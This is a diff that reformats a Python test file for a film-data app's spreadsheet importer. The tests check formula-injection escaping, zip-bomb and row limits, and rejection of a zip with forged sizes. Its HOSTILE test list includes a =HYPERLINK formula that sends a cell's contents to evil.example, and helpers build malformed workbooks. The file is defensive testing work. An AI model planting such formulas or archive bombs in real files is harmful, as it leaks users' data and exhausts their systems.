@@ -18,11 +18,21 @@ from kinomost.core.errors import ImportRejected
 from kinomost.core.spreadsheets import FORMULA_START, csv_cell, unescape, xlsx_row
 
 ROOT = Path(__file__).resolve().parents[2]
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&B5,"Click")', "+7 495 123-45-67", "-1", "@SUM(1)",
-           "'=already quoted", "''+two quotes", "＝全角", "'plain quote", "plain"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&B5,"Click")',
+    "+7 495 123-45-67",
+    "-1",
+    "@SUM(1)",
+    "'=already quoted",
+    "''+two quotes",
+    "＝全角",
+    "'plain quote",
+    "plain",
+]
 
 
 # --- the formula rule ------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_csv_cell_never_starts_a_formula_and_unescapes_to_the_original(value):
@@ -47,6 +57,7 @@ def test_an_xlsx_row_keeps_text_starting_with_equals_as_a_string_cell():
 
 
 # --- limits ----------------------------------------------------------------------------------------
+
 
 def _workbook(rows: int, text: str = "x") -> bytes:
     book = Workbook()
@@ -103,9 +114,10 @@ def _same_sheet_listed(data: bytes, times: int) -> bytes:
             body = source.read(info.filename)
             if info.filename == "xl/workbook.xml":
                 text = body.decode()
-                sheet = re.search(r'<sheet [^>]*/>', text).group()
-                copies = "".join(re.sub(r'name="[^"]*"', f'name="S{n}"', sheet).replace('sheetId="1"', f'sheetId="{n + 2}"')
-                                 for n in range(times - 1))
+                sheet = re.search(r"<sheet [^>]*/>", text).group()
+                copies = "".join(
+                    re.sub(r'name="[^"]*"', f'name="S{n}"', sheet).replace('sheetId="1"', f'sheetId="{n + 2}"') for n in range(times - 1)
+                )
                 body = text.replace(sheet, sheet + copies).encode()
             target.writestr(info.filename, body)
     return out.getvalue()
@@ -135,9 +147,9 @@ def test_a_zip_that_lies_about_its_sizes_is_refused_as_damaged_not_read():
     info = archive.getinfo("xl/worksheets/sheet1.xml")
     # the central directory entry of the sheet: its uncompressed size at offset 24
     entry = data.index(b"PK\x01\x02", archive.start_dir)
-    while data[entry + 46:entry + 46 + len(info.filename)] != info.filename.encode():
+    while data[entry + 46 : entry + 46 + len(info.filename)] != info.filename.encode():
         entry = data.index(b"PK\x01\x02", entry + 4)
-    data[entry + 24:entry + 28] = (100).to_bytes(4, "little")
+    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
     with pytest.raises(ImportRejected) as refused:
         header, rows = read_file(bytes(data), "w.xlsx")
         list(rows)
@@ -181,9 +193,14 @@ print("MB", len(data) / 1e6, (peak or resource.getrusage(resource.RUSAGE_SELF).r
 """
 
 
-@pytest.mark.parametrize("case, limit", [("xlsx-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
-                                         ("avails-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
-                                         ("huge-csv", "KINOMOST_IMPORT_MAX_ROWS")])
+@pytest.mark.parametrize(
+    "case, limit",
+    [
+        ("xlsx-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
+        ("avails-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
+        ("huge-csv", "KINOMOST_IMPORT_MAX_ROWS"),
+    ],
+)
 def test_a_refused_bomb_costs_less_than_300_mb(case, limit):
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
     for name in ("KINOMOST_IMPORT_MAX_BYTES", "KINOMOST_IMPORT_MAX_ROWS", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"):
